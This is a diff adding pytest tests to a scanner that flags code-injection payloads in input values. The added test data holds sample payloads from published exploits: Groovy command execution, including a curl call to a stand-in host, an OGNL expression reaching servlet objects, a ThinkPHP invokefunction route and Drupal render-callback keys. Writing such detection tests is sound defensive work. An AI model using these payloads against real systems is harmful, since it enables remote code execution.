@@ -176,3 +176,34 @@ def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
     # Phone numbers, negative amounts, handles and plain sums begin with a formula sign; only a DDE
     # call (app|'topic'!) or a formula that reaches the network is reported.
     assert code.scan(value, CTX) is None
+
+
+@pytest.mark.parametrize(
+    ("payload", "rule_id"),
+    [
+        # Groovy runs a string as a command line (Elasticsearch scripts, Jenkins' script console)
+        ("def cmd = 'whoami'; def out = cmd.execute().text; out", "HG-CODE-003"),
+        ('new Object(){ { "curl http://x.example/s".execute() } }', "HG-CODE-003"),
+        # OGNL reaching the servlet objects through the action context
+        ("${#r=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
+        # ThinkPHP 5's route into its own namespace, which calls any method it names
+        ("/home/\\think\\Container/invokefunction", "HG-CODE-006"),
+    ],
+)
+def test_code_runners_of_published_exploits_are_reported(payload: str, rule_id: str) -> None:
+    found = code.scan(payload, CTX)
+    assert found is not None and found.rule_id == rule_id, found
+
+
+@pytest.mark.parametrize(
+    "value", ["cursor.execute()", 'conn.execute("select 1")', "def total = price * qty", "a\\b\\think"]
+)
+def test_calls_named_execute_on_names_and_backslashed_words_are_no_code(value: str) -> None:
+    assert code.scan(value, CTX) is None
+
+
+def test_a_drupal_render_callback_key_is_reported_only_as_a_key() -> None:
+    assert code.scan("#post_render", ScanContext(is_key=True)) is not None
+    assert code.scan("#lazy_builder", ScanContext(is_key=True)) is not None
+    assert code.scan("#process", ScanContext()) is None  # a hashtag in a value
+    assert code.scan("#products", ScanContext(is_key=True)) is None
